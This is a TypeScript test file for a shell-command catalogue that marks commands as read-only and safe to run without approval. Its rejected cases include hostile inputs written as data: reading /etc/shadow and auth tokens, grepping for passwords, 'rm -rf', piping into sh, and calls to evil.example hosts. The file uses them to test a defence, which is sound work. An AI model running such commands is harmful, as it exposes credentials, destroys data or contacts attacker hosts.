import { beforeAll, describe, expect, it } from 'vitest';
import { BUILT_IN_READ_ONLY } from '../../constitution/read-only-commands.ts';
import type { ReadOnlyRuleConfig } from '../../runtime/config.ts';
import { ConfigError } from '../../runtime/errors.ts';
import {
  checkBuiltInReadOnlyExamples,
  loadCatalogue,
  matchReadOnly,
  type ReadOnlyCatalogue,
} from '../../runtime/pipeline/read-only.ts';
import { initShellParser, parseShell } from '../../runtime/shell/parse.ts';

let catalogue: ReadOnlyCatalogue;
const everyPath = (): boolean => true;

beforeAll(async () => {
  await initShellParser();
  catalogue = loadCatalogue([]);
});

function rule(source: string, pathOk: (path: string) => boolean = everyPath): string | null {
  return matchReadOnly(parseShell(source), catalogue, pathOk)?.rule ?? null;
}

describe('read-only catalogue: loading', () => {
  it('every built-in rule matches its examples and none of its counter-examples', () => {
    expect(() => checkBuiltInReadOnlyExamples()).not.toThrow();
  });

  it('covers the required commands', () => {
    const names = new Set(BUILT_IN_READ_ONLY.map((r) => r.name));
    const required = [
      'ls',
      'cat',
      'head',
      'tail',
      'wc',
      'grep',
      'rg',
      'find',
      'du',
      'df',
      'ps',
      'pwd',
      'echo',
      'printf',
      'date',
      'uname',
      'whoami',
      'id',
      'which',
      'file',
      'stat',
      'sort',
      'uniq',
      'cut',
      'tr',
      'diff',
      'tree',
      'less',
      'env',
    ];
    const gits = [
      'git status',
      'git log',
      'git diff',
      'git show',
      'git branch',
      'git remote',
      'git rev-parse',
      'npm ls',
      'npm view',
      'node --version',
      'python3 --version',
    ];
    for (const name of [...required, ...gits]) expect(names).toContain(name);
  });

  it('accepts a user rule whose examples hold', () => {
    const extra: ReadOnlyRuleConfig[] = [
      {
        name: 'kubectl get',
        binary: 'kubectl',
        subcommands: ['get'],
        forbidden_flags: ['--kubeconfig'],
        examples: { match: ['kubectl get pods'], no_match: ['kubectl delete pod x'] },
      },
    ];
    const withExtra = loadCatalogue(extra);
    expect(matchReadOnly(parseShell('kubectl get pods -n dev'), withExtra, everyPath)?.rule).toBe(
      'kubectl get',
    );
  });

  it.each([
    [
      { match: ['kubectl delete pod x'], no_match: ['kubectl get pods'] },
      'should match but does not',
    ],
    [{ match: ['kubectl get pods'], no_match: ['kubectl get nodes'] }, 'should not match but does'],
  ])(
    'refuses a drifted example with a ConfigError naming the rule and the example',
    (examples, problem) => {
      const extra: ReadOnlyRuleConfig[] = [
        { name: 'kubectl get', binary: 'kubectl', subcommands: ['get'], examples },
      ];
      let error: unknown;
      try {
        loadCatalogue(extra);
      } catch (caught) {
        error = caught;
      }
      expect(error).toBeInstanceOf(ConfigError);
      expect((error as Error).message).toContain('approvals.read_only_catalogue.extra.0');
      expect((error as Error).message).toContain('"kubectl get"');
      expect((error as Error).message).toContain(problem);
    },
  );
});

describe('read-only catalogue: matching', () => {
  it.each([
    ['git status', 'git status'],
    ['git log --oneline -10', 'git log'],
    ['git diff --stat', 'git diff'],
    ['git branch -a', 'git branch'],
    ['git remote -v', 'git remote'],
    ['git stash list', 'git stash list'],
    ['ls -la src', 'ls'],
    ["find . -name '*.ts' -not -path './node_modules/*'", 'find'],
    ['ps aux | grep node', 'ps, grep'],
    ['cat noisy.log > /dev/null 2>&1', 'cat'],
    ['cat < input.txt', 'cat'],
    ['if command -v mkfs >/dev/null 2>&1; then echo yes; fi', 'command, echo'],
    ['nice -n 5 ls', 'ls'],
    ['echo "rm -rf /"', 'echo'],
    ['env', 'env'],
    ['node --version', 'node --version'],
    ['npm ls --depth=0', 'npm ls'],
    ['date +%s', 'date'],
    ["grep -rn 'TODO' src", 'grep'],
    ['grep -n x /var/log/app.log', 'grep'],
    ["rg 'fn main' src tests", 'rg'],
    ['diff -ru old/ new/', 'diff'],
    ['sort -u a.txt | uniq -c | head -n 3', 'sort, uniq, head'],
    ["sed -n '1,40p' src/index.ts", 'sed filter'],
    ["sed -n '/^export/p' a.ts b.ts", 'sed filter'],
    ["sed 's/\\.ts$//' a.ts", 'sed filter'],
    ["sed -E 's/ +/ /g; /^$/d' a.ts b.ts", 'sed filter'],
    ['kubectl get pods -n dev', 'kubectl get'],
    ['kubectl describe deploy web -o yaml', 'kubectl get'],
    ["kubectl get pods -o 'jsonpath={.items[*].metadata.name}'", 'kubectl get'],
    ['kubectl auth can-i list pods', 'kubectl get'],
    ['kubectl config view --minify', 'kubectl config view'],
    ['docker inspect app', 'docker ps'],
    ['git tag', 'git tag'],
    ["git tag -ln 'v1.*'", 'git tag -l'],
    ['git config --get user.email', 'git config --get'],
    ['git config -l --show-origin', 'git config --get'],
    ["git grep -n 'TODO' -- src", 'git grep'],
    ['git describe --tags --always', 'git describe'],
    ['npm outdated', 'npm outdated'],
    ['npm --version', 'npm --version'],
    ['pip list --format=json', 'pip list'],
    ['pip3 show -f zod', 'pip3 list'],
    ['python -V', 'python --version'],
    ['go env GOPATH GOMODCACHE', 'go env'],
    ['go list -m all', 'go list'],
    ['sha256sum dist/app.tgz | cut -d" " -f1', 'sha256sum, cut'],
    ['column -t -s, data.csv', 'column'],
    ['xxd -l64 data.bin | head', 'xxd, head'],
    ['lscpu', 'lscpu'],
    ["awk -F, '{print $1}' data.csv", 'awk print'],
  ])('%s matches %s', (source, name) => {
    expect(rule(source)).toBe(name);
  });

  it.each([
    'find . -delete',
    'find . -execdir sh -c ls {} \\;',
    'find . -fprint out.txt',
    'find . -ok rm {} \\;',
    'sort -o out.txt in.txt',
    'sort -uo out.txt in.txt',
    'sort --output=out.txt in.txt',
    'git -c core.pager=./x log',
    'git log --output=x',
    'git diff --ext-diff',
    'git branch new-branch',
    'git push',
    'rg --pre ./x pattern',
    'tree -o t.txt',
    'less +!id README.md',
    'less -o log.txt README.md',
    'uniq a.txt b.txt',
    'date -s 2020-01-01',
    'env ls',
    'env FOO=1',
    'sudo cat README.md',
    'LANG=C ls',
    'ls > files.txt',
    'ls >> files.txt',
    'ls $DIR',
    'ls *.ts',
    'ls {a,b}',
    'cat "$(echo x)"',
    'ls; rm -rf build',
    'ls | sh',
    'ls | xargs rm',
    'echo $(id)',
    'cat <(curl x)',
    './ls',
    '/tmp/evil/cat x',
    "bash -c 'ls'",
    "eval 'ls'",
    'f() { ls; }; f',
    'ls "unterminated',
    '',
    'node script.js',
    "python3 -c 'print(1)'",
    'grep -r password ~',
    'grep -R key /etc',
    'grep -r x',
    'grep -r x src/../..',
    'rg secret /',
    'rg secret',
    // A bare interpreter runs its stdin: never the --version rule.
    "python3 - <<'EOF'\nimport os\nEOF",
    'python3 < script.py',
    "node <<< 'process.exit(1)'",
    'python3',
    'chrt 5',
    "sed -i 's/a/b/' a.txt",
    "sed -n '1w out.txt' a.txt",
    "sed -n 's/a/b/w out.txt' a.txt",
    "sed -n '1e id' a.txt",
    "sed -n '1r /etc/shadow' a.txt",
    "sed -i -n '1p' a.txt",
    "sed -n -i.bak '1p' a.txt",
    'sed -n -f script.sed a.txt',
    'kubectl delete pod web-1',
    'kubectl get pods --kubeconfig=./evil',
    'kubectl --server https://evil.example get pods',
    'kubectl get pods -s https://evil.example',
    'kubectl get secrets -o yaml',
    'kubectl get pods,secret/db',
    'kubectl get pods -o go-template-file=/etc/shadow',
    'kubectl get pods --output=custom-columns-file=/etc/shadow',
    'kubectl get -f https://evil.example/x.yaml',
    'kubectl config view --raw',
    'kubectl config view --flatten',
    'kubectl cluster-info dump --output-directory=/tmp/x',
    'kubectl exec web -- id',
    'docker -H ssh://me@evil.example ps',
    'docker --config ./evil ps',
    'docker compose up -d',
    // Compose fills .env values (its own and its includes') into what it prints: no compose
    // command runs without a card.
    'docker compose ps',
    'docker compose logs --tail 20 web',
    'docker compose config --services',
    'docker compose config',
    'docker compose config --images',
    'docker compose config --environment',
    'docker compose config --services -o out.yml',
    'docker compose --env-file ~/.env.prod config --services',
    'docker run alpine',
    'git tag v1.0',
    'git tag -a v1 -m x',
    'git tag -d v1',
    'git config user.name Ada',
    'git config --get user.name --file=/etc/x',
    'git config --unset user.name',
    'git grep -O./pager TODO',
    'git grep --open-files-in-pager=vim TODO',
    'git grep --no-index key',
    'git -c core.pager=./x grep TODO',
    'npm config get //registry.npmjs.org/:_authToken',
    'npm config set x y',
    'npm outdated --prefix /',
    'pip install left-pad',
    'pip list --python ./evil',
    'pip list --log out.txt',
    'pip freeze -r requirements.txt',
    'go env -w GOFLAGS=-mod=mod',
    'go env -u GOPROXY',
    'go list -export ./...',
    'go list -toolexec ./x ./...',
    'go run .',
    'md5sum -c sums.txt',
    'sha256sum --check sums.txt',
    'xxd -r dump.hex out.bin',
    'xxd --revert dump.hex',
    'xxd in.bin out.txt',
    'xxd -l 64 in.bin out.txt',
    'awk \'{print > "out.txt"}\' data.csv',
    "awk '{system($0)}' cmds.txt",
    // Long options may be abbreviated to any unambiguous prefix.
    'sort --outp=important.txt junk.txt',
    'date --se=2020-01-01',
    'git log --outp=log.txt',
    'sha256sum --ch sums.txt',
    'hostname --fi=names.txt',
  ])('%s does not match', (source) => {
    expect(rule(source)).toBeNull();
  });

  it('every path argument must pass the caller check', () => {
    const pathOk = (path: string): boolean => !path.startsWith('/secret');
    expect(rule('cat /public/a.txt', pathOk)).toBe('cat');
    expect(rule('cat /public/a.txt /secret/b.txt', pathOk)).toBeNull();
    expect(rule('cat < /secret/b.txt', pathOk)).toBeNull();
    expect(rule('grep --file=/secret/p x', pathOk)).toBeNull();
    // A sed script is not a path; its input files are.
    expect(rule("sed -n '/secret/p' /public/a.txt", pathOk)).toBe('sed filter');
    expect(rule("sed -n '1p' /public/a.txt /secret/b.txt", pathOk)).toBeNull();
    expect(rule('kubectl get pods -n /secret', pathOk)).toBeNull();
  });

  it('a user rule may require a flag', () => {
    const extra: ReadOnlyRuleConfig[] = [
      {
        name: 'deno --version',
        binary: 'deno',
        allowed_flags: ['--version', '-V'],
        required_flags: ['--version', '-V'],
        max_args: 0,
        examples: { match: ['deno -V'], no_match: ['deno < x.ts'] },
      },
    ];
    const withExtra = loadCatalogue(extra);
    expect(matchReadOnly(parseShell('deno --version'), withExtra, everyPath)?.rule).toBe(
      'deno --version',
    );
    expect(matchReadOnly(parseShell('deno'), withExtra, everyPath)).toBeNull();
  });
});

describe('read-only catalogue: host questions that print and change nothing', () => {
  it.each([
    ['printenv PATH', 'printenv'],
    ['printenv -0 HOME LANG', 'printenv'],
    ['lsmod', 'lsmod'],
    ['modinfo -F description snd_hda_intel', 'modinfo'],
    ['mount', 'mount'],
    ['mount -l', 'mount'],
    ['openssl rand -hex 32', 'openssl rand'],
    ['openssl rand -base64 24', 'openssl rand'],
  ])('%s matches %s', (source, name) => {
    expect(rule(source)).toBe(name);
  });

  it.each([
    'mount -a',
    'mount /dev/sdb1 /mnt',
    'mount -t tmpfs none /mnt',
    'mount -o remount,rw /',
    'openssl rand -out key.bin 32',
    'openssl rand -writerand seed 32',
    'openssl rand -rand /dev/sda -hex 16',
    'openssl rand -engine ./e.so -hex 16',
    'openssl rand -hex 99999999',
    'openssl req -new -key k.pem',
    'lsmod extra',
    'modinfo --help-me x',
  ])('%s matches no rule', (source) => {
    expect(rule(source)).toBeNull();
  });

  it("checks the file modinfo is given as a path, like any reader's operand", () => {
    const notKeys = (path: string): boolean => !path.includes('.ssh');
    expect(rule('modinfo ~/.ssh/id_rsa', notKeys)).toBeNull();
    expect(rule('modinfo -b ~/.ssh x', notKeys)).toBeNull();
  });
});

describe('read-only catalogue: a program named by its path', () => {
  it.each([
    ['/usr/bin/git status', 'git status'],
    ['/bin/ls -la', 'ls'],
    ['/usr/bin/env', 'env'],
  ])('%s in a directory only root writes matches %s', (source, name) => {
    expect(rule(source)).toBe(name);
  });

  it.each([
    './git status',
    '/tmp/bin/ls -la',
    '~/bin/cat notes.md',
    '/usr/local/../../tmp/ls',
    '/usr/bin/../../tmp/x/ls',
    '/usr/bin//ls',
    'bin/ls',
  ])('%s is whatever file sits there: no rule', (source) => {
    expect(rule(source)).toBeNull();
  });
});
